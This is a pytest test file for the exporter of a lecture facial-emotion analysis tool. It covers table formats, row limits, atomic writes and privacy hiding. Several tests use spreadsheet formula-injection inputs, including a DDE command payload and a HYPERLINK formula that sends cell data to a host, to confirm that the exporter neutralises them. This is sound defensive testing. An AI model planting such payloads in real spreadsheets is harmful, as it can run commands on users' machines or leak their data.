"""Exports hold the events of the streams, or there is no file."""

import csv
import json
import tempfile
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
import redis
from msgspec import structs
from msgspec.structs import replace

from producer.reading import export as exporting
from producer.reading.analysis.names import Person, Roster
from producer.reading.export import export
from producer.reading.follow import replay
from producer.reading.formats import tables
from producer.reading.formats.rows import COLUMNS
from producer.reading.formats.tables import plain_text
from producer.reading.lectures import LectureUnknown
from producer.reading.output_file import ExportRefused, complete_or_absent
from tests.producer.reading.scripted import mean_valence, scores_of, scripted_events, write_scripted
from tests.producer.reading.writing import begin, class_, commit, emotion, end, frame_events, write
from worker.contract.keys import LectureKeys
from worker.contract.messages import EMOTIONS, ClassEvent, EmotionEvent, ParticipantSpan, Pose, decode_event, encode

SPAN = encode(ParticipantSpan(0.0, 1.0, 1))
PRESENCE = [{"p01"}, {"p01", "p02"}, set(), {"p02"}]


def test_jsonl_holds_the_published_events(client: redis.Redis, tmp_path: Path) -> None:
    published = write(client, "l", PRESENCE)
    assert export(client, "l", tmp_path / "e.jsonl").over
    assert [decode_event(line) for line in (tmp_path / "e.jsonl").read_bytes().splitlines()] == published


def test_csv_and_parquet_hold_one_row_for_each_sighting(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    sightings = [event for event in write(client, "l", PRESENCE) if isinstance(event, EmotionEvent)]
    assert export(client, "l", tmp_path / "e.csv").over
    assert export(client, "l", tmp_path / "e.parquet").over
    with (tmp_path / "e.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "e.parquet")
    assert list(rows[0]) == table.column_names == list(COLUMNS["people"])
    as_text = [{name: "" if value is None else str(value) for name, value in row.items()} for row in table.to_pylist()]
    assert as_text == rows
    assert [(row["participant"], int(row["frame"]), float(row["t"])) for row in rows] == [
        (event.participant, event.frame, event.t) for event in sightings
    ]
    assert {(row["happiness"], row["smoothed_anger"], row["height"]) for row in rows} == {("0.76", "0.04", "40")}


def test_a_face_that_cannot_be_read_is_a_row_without_an_emotion(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    write_scripted(client, scripted_events(2, 1, lambda who, _: "small" if who else "anger"))
    for name in ("e.csv", "e.parquet", "e.xlsx", "e.jsonl"):
        export(client, "l", tmp_path / name)
    first, second = parquet.read_table(tmp_path / "e.parquet").to_pylist()
    assert (first["emotion"], first["readable"], first["reason"]) == ("anger", True, None)
    assert (second["emotion"], second["readable"], second["reason"]) == (None, False, "small")
    assert second["width"] == 30
    of_emotion = ("{}", "smoothed_{}", "{}_minus_own_usual")
    empty = [*(each.format(emotion) for each in of_emotion for emotion in EMOTIONS), "valence", "arousal"]
    assert {second[name] for name in empty} == {None}
    with (tmp_path / "e.csv").open(newline="") as file:
        _, row = csv.DictReader(file)
    assert (row["emotion"], row["anger"], row["readable"], row["reason"]) == ("", "", "False", "small")
    heading, _, cells = sheet(tmp_path / "e.xlsx")
    assert cells[heading.index("readable") :][:2] == [0.0, "small"]
    (line,) = [line for line in (tmp_path / "e.jsonl").read_text().splitlines() if '"reason":"small"' in line]
    assert '"emotion":null' in line


def sheet(path: Path, number: int = 1) -> list[list[str | float | None]]:
    """The rows of a sheet of an Excel file: texts, numbers, and None for what is empty, all as long as the first.

    AssertionError if a cell has a formula.
    """
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(path) as book:
        assert not [name for name in book.namelist() if "sharedStrings" in name and book.getinfo(name).file_size > 500]
        rows = list(ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml")).iter(f"{space}row"))
    assert not any(list(row.iter(f"{space}f")) for row in rows)

    def value(cell: ElementTree.Element) -> str | float | None:
        text = "".join(cell.itertext())
        return text if cell.get("t") == "inlineStr" else float(text)

    columns = [cell.get("r", "").rstrip("0123456789") for cell in rows[0]]
    by_column = [{cell.get("r", "").rstrip("0123456789"): value(cell) for cell in row} for row in rows]
    return [[row.get(column) for column in columns] for row in by_column]


def test_an_excel_file_holds_text_and_numbers_and_no_formula(client: redis.Redis, tmp_path: Path) -> None:
    write(client, "-x", PRESENCE)
    client.hset("lecture:{-x}", "source", "=1+1")
    name = '=HYPERLINK("http://127.0.0.1/?x="&A1,"Jürgen Ørsted 山田")'
    assert export(client, "-x", tmp_path / "e.xlsx", Roster({"p01": name, "p02": "https://example.org"})) == (True, [])
    export(client, "-x", tmp_path / "e.parquet", Roster({"p01": name, "p02": "https://example.org"}))
    from pyarrow import parquet

    expected = parquet.read_table(tmp_path / "e.parquet").to_pylist()
    heading, *rows = sheet(tmp_path / "e.xlsx")
    assert [dict(zip(heading, row, strict=True)) for row in rows] == expected
    assert sorted(path.name for path in tmp_path.iterdir()) == ["e.parquet", "e.xlsx"]


def test_an_excel_file_needs_no_room_in_the_system_s_temporary_folder(
    client: redis.Redis, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(client, "l", PRESENCE)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "full"))
    assert export(client, "l", tmp_path / "e.xlsx").over
    assert [path.name for path in tmp_path.iterdir()] == ["e.xlsx"]


@pytest.mark.parametrize("counted", [True, False])
def test_an_excel_file_for_more_rows_than_excel_has_is_refused_not_cut(
    client: redis.Redis, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, counted: bool
) -> None:
    write(client, "l", PRESENCE)
    if not counted:  # more sightings come while it is written
        client.delete(LectureKeys("l").participants)
        client.hset(LectureKeys("l").participants, mapping=dict.fromkeys(("p01", "p02"), SPAN))
    for rows, fits in ((5, True), (4, False)):  # PRESENCE has four sightings
        monkeypatch.setattr(exporting, "EXCEL_ROWS", rows)
        monkeypatch.setattr(tables, "EXCEL_ROWS", rows)
        if fits:
            export(client, "l", tmp_path / "e.xlsx")
            continue
        with pytest.raises(ExportRefused, match=r"Excel has at most 4 rows.* export to a \.csv or \.parquet"):
            export(client, "l", tmp_path / "f.xlsx")
    assert [path.name for path in tmp_path.iterdir()] == ["e.xlsx"]


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r", "'\r"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20x", "'\uff20x"),
        ("  =1", "'  =1"),
        ("\u00a0\u200b=1", "'\u00a0\u200b=1"),
        ("x;=1+1", "x;'=1+1"),  # German Excel begins a new cell at a semicolon
        ('x";=1+1', "x\";'=1+1"),
        ("a,\n@b", "a,'\n'@b"),
        ("Anna-Lena Müller", "Anna-Lena Müller"),
        ("a+b=c@d", "a+b=c@d"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(given: str, written: str) -> None:
    assert plain_text(given) == written


def test_a_csv_has_no_formula_and_its_numbers_stay_numbers(client: redis.Redis, tmp_path: Path) -> None:
    begin(client, "-x")
    sighting = structs.replace(emotion("-x", "-p", 0), valence=-0.3, emotion="=cmd|' /C calc'!A0")
    commit(client, "-x", [sighting, *frame_events("-x", 0, [])])
    export(client, "-x", tmp_path / "e.csv", Roster({"-p": "=1+1"}))
    with (tmp_path / "e.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert [row[name] for name in ("lecture", "participant", "emotion", "name")] == [
        "'-x",
        "'-p",
        "'=cmd|' /C calc'!A0",
        "'=1+1",
    ]
    assert row["valence"] == "-0.3"


def test_a_running_lecture_is_exported_up_to_now(client: redis.Redis, tmp_path: Path) -> None:
    begin(client, "l")
    commit(client, "l", frame_events("l", 0, ["p01"]))
    assert not export(client, "l", tmp_path / "e.jsonl").over
    assert len((tmp_path / "e.jsonl").read_bytes().splitlines()) == 2


def test_a_path_that_cannot_be_written_is_refused_with_the_reason(client: redis.Redis, tmp_path: Path) -> None:
    write(client, "l", PRESENCE)
    (tmp_path / "mine.csv").write_text("mine")
    for name, reason in (
        ("mine.csv", r"mine\.csv' exists already"),
        ("e.ods", r"e\.ods'.*\.csv, \.xlsx, .*or \.eaf"),
        ("no/e.csv", r"no/e\.csv': No such file or directory"),
    ):
        with pytest.raises(ExportRefused, match=reason):
            export(client, "l", tmp_path / name)
    assert (tmp_path / "mine.csv").read_text() == "mine"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_an_export_that_fails_leaves_no_file(client: redis.Redis, tmp_path: Path, suffix: str) -> None:
    write(client, "l", PRESENCE)
    client.xadd(LectureKeys("l").participant("p01"), {"event": b'{"type": "riddle"}'})
    with pytest.raises(ValueError, match="riddle"):
        export(client, "l", tmp_path / f"e{suffix}")
    with pytest.raises(LectureUnknown):
        export(client, "k", tmp_path / f"e{suffix}")
    assert list(tmp_path.iterdir()) == []


def test_of_two_commands_that_write_one_file_at_a_time_the_first_writes_it(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    slow = complete_or_absent(path)
    slow.__enter__().write(b"slow")
    with complete_or_absent(path) as fast:  # in the same process, as in a container with the same number
        fast.write(b"fast")
    with pytest.raises(ExportRefused, match="exists already"):
        slow.__exit__(None, None, None)
    assert [(each.name, each.read_bytes()) for each in tmp_path.iterdir()] == [("e.csv", b"fast")]


def test_rows_of_the_class_are_those_of_its_events(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    write_scripted(client, scripted_events(3, 20, lambda who, frame: "small" if who == 2 else "anger"))
    classes = [event for event in replay(client, "l") if isinstance(event, ClassEvent)]
    for name in ("c.csv", "c.parquet", "c.jsonl"):
        export(client, "l", tmp_path / name, rows="class")
    export(client, "l", tmp_path / "both.xlsx")
    with (tmp_path / "c.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "c.parquet").to_pylist()
    assert list(rows[0]) == list(table[0]) == list(COLUMNS["class"])
    assert [(row["frame"], row["faces"], row["unreadable"], row["anger"], row["damaged"]) for row in table] == [
        (event.frame, 3, 1, event.scores and event.scores["anger"], False) for event in classes
    ]
    assert [row["t"] for row in rows] == [str(event.t) for event in classes]
    lines = [decode_event(line) for line in (tmp_path / "c.jsonl").read_bytes().splitlines()]
    assert lines[:-1] == classes
    heading, *cells = sheet(tmp_path / "both.xlsx", 2)
    assert heading == list(COLUMNS["class"])
    assert [row[heading.index("faces")] for row in cells] == [3.0] * 20
    assert len(sheet(tmp_path / "both.xlsx")) == 61


def test_a_person_is_also_compared_with_their_own_usual(client: redis.Redis, tmp_path: Path) -> None:
    """p01 looks sad at rest. What counts is when p01 looks happy, and for the class the mean of such changes."""
    from pyarrow import parquet

    def shows(person: int, frame: int) -> str:
        return "happiness" if person == 0 and frame >= 40 else ("sadness", "neutral")[person]

    write_scripted(client, scripted_events(2, 50, shows))
    export(client, "l", tmp_path / "p.parquet")
    export(client, "l", tmp_path / "c.parquet", rows="class")
    people = parquet.read_table(tmp_path / "p.parquet").to_pylist()
    first = [row for row in people if row["participant"] == "p01"]
    assert [row["sadness_minus_own_usual"] for row in (first[0], first[-1])] == pytest.approx([0.0, -0.86], abs=0.03)
    assert first[-1]["happiness_minus_own_usual"] == pytest.approx(0.86, abs=0.03)
    of_class = parquet.read_table(tmp_path / "c.parquet").to_pylist()
    changes = [row["happiness_minus_own_usual"] for row in (of_class[0], of_class[-1])]
    assert changes == pytest.approx([0.0, 0.43], abs=0.03)  # own usuals are medians of binned scores


def test_a_lecture_without_people_has_rows_of_the_class_and_says_so_if_others_are_wanted(
    client: redis.Redis, tmp_path: Path
) -> None:
    for events in (frame_events("l", 0, []), frame_events("l", 1, [])):
        begin(client, "l")
        commit(client, "l", events)
    client.hset(LectureKeys("l").info, "class_only", 1)
    for name in ("e.csv", "e.xlsx", "e.jsonl", "e.eaf", "e.vtt"):
        export(client, "l", tmp_path / name)
    assert (tmp_path / "e.csv").read_text().startswith("lecture,frame,t,faces,")
    assert sheet(tmp_path / "e.xlsx")[0][:2] == ["lecture", "frame"]
    with pytest.raises(ExportRefused, match=r"no rows of people: lecture l was ingested with --class-only"):
        export(client, "l", tmp_path / "p.csv", rows="people")
    with pytest.raises(ExportRefused, match=r"--rows class is for tables and events, and a \.vtt has none"):
        export(client, "l", tmp_path / "p.vtt", rows="class")


def test_rows_name_their_chapter_and_its_title_is_no_formula(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    write(client, "l", PRESENCE)
    chapters = [{"t": 0.5, "title": "=1+1"}, {"t": 1.5, "title": "Bayes; =2"}]
    client.hset(LectureKeys("l").info, "chapters", json.dumps(chapters))
    for name in ("c.csv", "c.parquet"):
        export(client, "l", tmp_path / name, rows="class")
    export(client, "l", tmp_path / "e.xlsx", Roster({"p01": "Ann"}))
    titles = [None, "=1+1", "=1+1", "Bayes; =2"]
    assert parquet.read_table(tmp_path / "c.parquet")["chapter"].to_pylist() == titles
    with (tmp_path / "c.csv").open(newline="") as file:
        assert [row["chapter"] for row in csv.DictReader(file)] == ["", "'=1+1", "'=1+1", "Bayes;' =2"]
    heading, *rows = sheet(tmp_path / "e.xlsx")
    assert heading[-2:] == ["chapter", "name"]
    assert [row[-2:] for row in rows][:2] == [[None, "Ann"], ["=1+1", "Ann"]]
    heading, *rows = sheet(tmp_path / "e.xlsx", 2)
    assert [row[-1] for row in rows] == titles


def test_rows_of_people_have_the_turn_of_their_head(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    turned = replace(emotion("l", "p01", 0), pose=Pose(-12, 3, 45))
    begin(client, "l")
    commit(client, "l", [turned, emotion("l", "p02", 0), class_("l", 0, 2)])
    export(client, "l", tmp_path / "p.parquet")
    rows = parquet.read_table(tmp_path / "p.parquet").to_pylist()
    assert [[row[each] for each in ("yaw", "pitch", "roll")] for row in rows] == [[-12, 3, 45], [None] * 3]


def test_the_class_is_exported_without_those_whom_the_roster_leaves_out(client: redis.Redis, tmp_path: Path) -> None:
    """p01 lectures, angry; p02 is happy for the second half, p03 cannot be read."""
    from pyarrow import parquet

    def shows(person: int, frame: int) -> str:
        return ("anger", "happiness" if frame >= 20 else "neutral", "small")[person]

    write_scripted(client, scripted_events(3, 40, shows))
    roster = Roster({"p01": Person("Ann", "lecturer")})
    for name in ("c.parquet", "c.jsonl"):
        export(client, "l", tmp_path / name, roster, rows="class")
    export(client, "l", tmp_path / "c.eaf", roster)
    rows = parquet.read_table(tmp_path / "c.parquet").to_pylist()
    assert {(row["faces"], row["unreadable"]) for row in rows} == {(2, 1)}
    expected = [scores_of("neutral" if frame < 20 else "happiness") for frame in range(40)]
    for row, scores in zip(rows, expected, strict=True):
        assert {each: row[each] for each in EMOTIONS} == pytest.approx(scores, abs=1e-3)
    valences = [row["valence"] for row in rows]
    assert valences == pytest.approx([mean_valence(scores) for scores in expected], abs=2e-3)
    assert rows[-1]["happiness_minus_own_usual"] > 0.3, "only the change of p02, not half of it"
    events = [decode_event(line) for line in (tmp_path / "c.jsonl").read_bytes().splitlines()]
    assert {event.faces for event in events if isinstance(event, ClassEvent)} == {2}
    assert _tier(tmp_path / "c.eaf", "class") == ["neutral", "happiness"]


def _tier(path: Path, name: str) -> list[str | None]:
    root = ElementTree.parse(path).getroot()
    return [each.text for each in root.iterfind(f"TIER[@TIER_ID='{name}']//ANNOTATION_VALUE")]


def test_hidden_scores_are_missing_in_every_format_and_the_rows_say_why(client: redis.Redis, tmp_path: Path) -> None:
    from pyarrow import parquet

    begin(client, "l")
    client.hset(LectureKeys("l").info, mapping={"class_only": 1, "min_group": 5})
    few = replace(class_("l", 1, 3), scores=None, valence=None, arousal=None, hidden=True)
    nobody = replace(class_("l", 2, 2), scores=None, unreadable=2)
    commit(client, "l", [class_("l", 0, 7), few, nobody])
    end(client, "l")
    for name in ("c.parquet", "c.jsonl", "c.eaf", "c.vtt", "c.xlsx", "c.csv"):
        export(client, "l", tmp_path / name)
    rows = parquet.read_table(tmp_path / "c.parquet").to_pylist()
    assert [(row["faces"], row["unreadable"], row["hidden"], row["happiness"]) for row in rows] == [
        (7, 0, False, 0.76),
        (3, 0, True, None),
        (2, 2, False, None),
    ]
    assert b'"hidden":true' in (tmp_path / "c.jsonl").read_bytes().splitlines()[1]
    assert _tier(tmp_path / "c.eaf", "class") == ["happiness", "small group, hidden", "not readable"]
